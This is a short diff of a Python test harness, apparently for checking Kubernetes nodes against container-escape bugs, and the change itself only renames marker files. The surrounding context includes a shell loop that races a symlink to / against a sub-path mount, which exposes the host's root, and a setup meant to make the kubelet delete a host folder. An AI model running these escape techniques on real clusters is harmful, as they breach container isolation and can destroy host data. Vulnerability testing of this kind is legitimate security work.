@@ -45,7 +45,7 @@ def _written(target: Target) -> str:
 
 def _deleted(target: Target) -> str:
     """Put a link to a folder of the host where the kubelet keeps its own, and have it tidy up."""
-    victim = Path("/tmp/hard-attacked-victim")
+    victim = Path("/tmp/pyb-attacked-victim")
     victim.mkdir(exist_ok=True)
     (victim / "precious").write_text("x")
     volumes = [{"name": "settings", "configMap": {"name": "settings", "defaultMode": 0o777}}]
@@ -71,12 +71,12 @@ def _deleted(target: Target) -> str:
 
 def _sub_path(target: Target) -> str:
     """Swap a folder and a link to / while a container with a sub-path begins again and again."""
-    marker = Path("/etc/hard-attacked-marker")
+    marker = Path("/etc/pyb-attacked-marker")
     marker.write_text("the host's\n")
     swap = "cd /work; mkdir -p real; while true; do rm -rf x; mkdir x 2>/dev/null; rm -rf x; ln -s / x; done"
     reader: dict[str, Any] = {
         "name": "reader", "image": IMAGE, "imagePullPolicy": "Never",
-        "command": ["sh", "-c", "ls /got/etc/hard-attacked-marker && sleep 3600; exit 1"],
+        "command": ["sh", "-c", "ls /got/etc/pyb-attacked-marker && sleep 3600; exit 1"],
         "volumeMounts": [{"name": "work", "mountPath": "/got", "subPath": "x"}],
     }  # fmt: skip
     mounts = {"volumeMounts": [{"name": "work", "mountPath": "/work"}]}
@@ -90,7 +90,7 @@ def _sub_path(target: Target) -> str:
             time.sleep(3)
             found = target.kubectl("logs", name, "-c", "reader").stdout
             target.remove(name)
-            if "hard-attacked-marker" in found:
+            if "pyb-attacked-marker" in found:
                 return f"/ of the host was mounted at try {number + 1}"
         return ""
     finally:
